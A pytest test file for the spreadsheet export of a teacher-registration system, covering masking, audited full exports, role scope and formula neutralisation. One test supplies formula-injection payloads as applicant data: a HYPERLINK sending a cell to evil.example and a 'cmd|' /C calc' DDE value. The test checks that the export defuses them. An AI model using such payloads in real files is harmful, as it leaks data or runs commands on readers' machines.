"""The applications export (issue 6 item 7; P23): what the xlsx holds, masking, the full export,
formula neutralisation, identifiers as text, and the scope the worker reads through."""

from __future__ import annotations

import datetime

import pytest

from teacherreg.accounts.models import StaffMembership, StaffRole
from teacherreg.audit.models import AuditEvent
from teacherreg.common.errors import DomainError
from teacherreg.common.masking import mask
from teacherreg.exports import services
from teacherreg.exports.models import ExportJob, JobStatus
from teacherreg.exports.services import start_export
from teacherreg.office.scope import scope_for
from teacherreg.registration.workflow import Status
from tests.exports.helpers import data_rows, export_now, footer, job_path, sheet_cells, sheet_rows, sheet_xml
from tests.factories import ApplicationFactory, MembershipFactory, TeachingStageFactory

pytestmark = pytest.mark.django_db
R = StaffRole

HEADER = [
    "注册报名号",
    "注册年度",
    "姓名",
    "证件类型",
    "证件号码",
    "手机号码",
    "证书号码",
    "现任教学段",
    "现任教学科",
    "现任教学校",
    "注册机构",
    "确认点",
    "注册结论（申请人看到的状态）",
    "提交时间",
    "状态变更时间",
]


def _another_case(world, **kwargs):
    """A second case at our point (same arrangement, so the same agency and point)."""
    ours = world.ours.application
    return ApplicationFactory(arrangement=ours.arrangement, **kwargs)


def test_it_writes_one_row_per_case_in_scope_with_id_and_phone_masked(world):
    app = world.ours.application
    job = export_now(world.ours.staff[R.COUNTY_REVIEWER])

    assert job.status == JobStatus.DONE
    rows = sheet_rows(job)
    assert rows[0] == HEADER
    body = data_rows(job)
    assert len(body) == 1  # 湖南's case is not in a 山东 county's scope
    row = body[0]
    assert row[:13] == [
        app.number,
        "2026",
        app.name,
        "居民身份证",
        mask("document_number", app.document_number),
        mask("phone", app.phone),
        app.certificate.number_as_printed,
        app.current_stage.name,
        None,  # no subject: an empty cell
        app.current_school,
        "历下区教育局",
        "历下区确认点",
        "网报待确认",
    ]
    local = app.submitted_at.astimezone(datetime.timezone(datetime.timedelta(hours=8))).replace(tzinfo=None)
    assert abs(row[13] - local) < datetime.timedelta(seconds=1)  # a date cell, in Shanghai time
    # The full numbers appear nowhere in the file.
    xml = sheet_xml(job)
    assert app.document_number not in xml and app.phone not in xml
    assert job.progress_done == job.progress_total == 1
    # Only the finished file is left in the folder: no half-written copy, no row files.
    assert [p.name for p in job_path(job).parent.iterdir()] == [job_path(job).name]


def test_the_status_column_says_what_the_applicant_sees(world):
    _another_case(world, status=Status.COUNTY_REVIEW)
    _another_case(world, status=Status.QUALIFIED)
    job = export_now(world.ours.staff[R.COUNTY_REVIEWER])

    assert sorted(row[12] for row in data_rows(job)) == sorted(["网报待确认", "待注册审批（初审中）", "注册合格"])


def test_identifiers_are_text_cells_that_keep_leading_zeros(world):
    _another_case(world, current_school="0012")
    job = export_now(world.ours.staff[R.COUNTY_REVIEWER])

    cells = sheet_cells(job)[1:3]
    for row in cells:
        for cell in row[:13]:
            if cell.value is not None:
                assert cell.data_type == "s", (cell.coordinate, cell.value)
    assert "0012" in [row[9].value for row in cells]
    # A 15-digit number as text, never 2.02637E+14.
    assert all(len(row[0].value) == 15 and row[0].value.isdigit() for row in cells)
    assert "<f>" not in sheet_xml(job)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_start_a_formula_gets_an_apostrophe(world, start):
    typed = f'{start}HYPERLINK("http://evil.example/?q="&A1,"点这里")'
    _another_case(world, name=f"{start}cmd|' /C calc'!A0", current_school=typed)
    job = export_now(world.ours.staff[R.COUNTY_REVIEWER])

    cells = next(row for row in sheet_cells(job) if row[9].value and "HYPERLINK" in row[9].value)
    assert _read(cells[9].value) == "'" + typed
    assert cells[9].data_type == "s"
    assert _read(cells[2].value) == f"'{start}cmd|' /C calc'!A0"
    assert "<f>" not in sheet_xml(job)  # nothing in the sheet is a formula


def _read(value: str) -> str:
    # The xlsx format stores a carriage return as the escape _x000D_ (Excel decodes it);
    # openpyxl hands the escape back as it is.
    return value.replace("_x000D_", "\r")


def test_a_harmless_value_is_left_as_it_is(world):
    _another_case(world, current_school="济南市=第一=小学", name="李-静")
    job = export_now(world.ours.staff[R.COUNTY_REVIEWER])

    row = next(r for r in data_rows(job) if r[2] == "李-静")
    assert row[9] == "济南市=第一=小学"


def test_every_export_carries_the_exporter_and_the_time_in_properties_and_footer(world):
    reviewer = world.ours.staff[R.COUNTY_REVIEWER]
    job = export_now(reviewer)

    lines = footer(job)
    label = f"{reviewer.name}（{reviewer.username}）"
    assert lines[0].startswith(f"导出人：{label}；导出时间：")
    assert "共 1 条" in lines[0] and str(job.public_id) in lines[0]
    assert lines[1] == "证件号码和手机号码已按规定打码显示。"
    import openpyxl

    props = openpyxl.load_workbook(job_path(job)).properties
    assert props.creator == label
    assert props.subject == "打码导出"
    expected = job.created_at.astimezone(datetime.UTC).replace(tzinfo=None, microsecond=0)
    assert props.created == expected


# --- P23: the full export --------------------------------------------------------------------


@pytest.mark.parametrize(
    "role",
    sorted({R.CONFIRMATION_OPERATOR, R.COUNTY_REVIEWER, R.CITY_REVIEWER, R.PROVINCE_REVIEWER, R.NATIONAL_VIEWER}),
)
def test_only_a_province_administrator_may_export_in_full(world, role):
    with pytest.raises(DomainError) as refusal:
        start_export(
            scope_for(world.ours.staff[role]), kind="applications", filters={}, full=True, reason="核对聘用信息"
        )
    assert refusal.value.code == "export_full_not_allowed"
    assert not ExportJob.objects.exists()


@pytest.mark.parametrize("reason", ["", "   ", "核对"])
def test_a_full_export_needs_a_reason(world, reason):
    admin = world.ours.staff[R.PROVINCE_ADMIN]
    with pytest.raises(DomainError) as refusal:
        start_export(scope_for(admin), kind="applications", filters={}, full=True, reason=reason)
    assert refusal.value.code == "export_reason_required"
    assert "至少 4 个字" in refusal.value.message


def test_a_full_export_shows_the_numbers_and_says_who_why_and_when(world):
    app = world.ours.application
    admin = world.ours.staff[R.PROVINCE_ADMIN]
    job = export_now(admin, full=True, reason="报送省人社厅核对聘用信息")

    row = data_rows(job)[0]
    assert row[4] == app.document_number
    assert row[5] == app.phone
    lines = footer(job)
    assert lines[0].startswith(f"导出人：{admin.name}（{admin.username}）")
    assert lines[1] == (
        "完整导出：本文件含未打码的证件号码和手机号码。导出原因：报送省人社厅核对聘用信息。请按规定保管，用完即删。"
    )
    import openpyxl

    props = openpyxl.load_workbook(job_path(job)).properties
    assert props.creator == f"{admin.name}（{admin.username}）"
    assert props.subject == "完整导出（未打码）"
    assert "报送省人社厅核对聘用信息" in props.description
    event = AuditEvent.objects.get(action=services.REQUESTED)
    assert event.actor == admin
    assert event.actor_role == R.PROVINCE_ADMIN
    assert event.data["full"] is True
    assert event.data["reason"] == "报送省人社厅核对聘用信息"
    assert AuditEvent.objects.filter(action=services.BUILT, data__rows=1).exists()


def test_a_full_export_reads_only_through_the_administrator_role(world):
    """An administrator who is also a county reviewer elsewhere exports in full only what the
    administrator role reaches."""
    admin = world.ours.staff[R.PROVINCE_ADMIN]
    MembershipFactory(user=admin, organisation=world.theirs.county, role=R.COUNTY_REVIEWER)
    masked = export_now(admin)
    full = export_now(admin, full=True, reason="报送省人社厅核对聘用信息")

    assert len(data_rows(masked)) == 2
    assert [row[0] for row in data_rows(full)] == [world.ours.application.number]


# --- scope and filters -----------------------------------------------------------------------


def test_a_role_revoked_before_the_build_shrinks_the_file(world):
    reviewer = world.ours.staff[R.COUNTY_REVIEWER]
    job = start_export(scope_for(reviewer), kind="applications", filters={})  # queued, not built
    StaffMembership.objects.filter(user=reviewer).update(is_active=False)

    services.build_export(job.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.DONE
    assert data_rows(job) == []


def test_a_role_granted_before_the_build_does_not_widen_the_file(world):
    reviewer = world.ours.staff[R.COUNTY_REVIEWER]
    job = start_export(scope_for(reviewer), kind="applications", filters={})
    MembershipFactory(user=reviewer, organisation=world.theirs.county, role=R.COUNTY_REVIEWER)

    services.build_export(job.pk)
    job.refresh_from_db()
    assert [row[0] for row in data_rows(job)] == [world.ours.application.number]


def test_a_job_is_built_once(world):
    job = export_now(world.ours.staff[R.COUNTY_REVIEWER])
    assert services.build_export(job.pk) is None
    assert AuditEvent.objects.filter(action=services.BUILT).count() == 1


def test_the_national_viewer_exports_every_region_masked(world):
    job = export_now(world.ours.staff[R.NATIONAL_VIEWER])
    assert sorted(row[0] for row in data_rows(job)) == sorted(
        [world.ours.application.number, world.theirs.application.number]
    )


@pytest.mark.parametrize("admin_role", [R.SYSTEM_ADMIN, R.SECURITY_ADMIN, R.AUDIT_ADMIN])
def test_the_system_administrators_export_nothing(world, admin_role):
    with pytest.raises(DomainError) as refusal:
        start_export(scope_for(world.ours.staff[admin_role]), kind="applications", filters={})
    assert refusal.value.code == "export_not_allowed"


def test_each_filter_narrows_the_cases(world):
    ours = world.ours.application
    secondary = TeachingStageFactory(code="3", name="初中", sort_order=3)
    at_stage = _another_case(world, current_stage=secondary)
    qualified = _another_case(world, status=Status.QUALIFIED)
    admin = world.ours.staff[R.PROVINCE_ADMIN]

    def numbers(**filters):
        return sorted(row[0] for row in data_rows(export_now(admin, filters=filters)))

    assert numbers() == sorted([ours.number, at_stage.number, qualified.number])
    assert numbers(status=Status.QUALIFIED) == [qualified.number]
    assert numbers(stage=secondary.pk) == [at_stage.number]
    assert numbers(year=2026, organisation=world.ours.point.pk) == numbers()
    assert numbers(year=2025) == []
    # A doctored organisation id from another region narrows to nothing, never widens.
    assert numbers(organisation=world.theirs.county.pk) == []
    assert numbers(status="bogus") == []
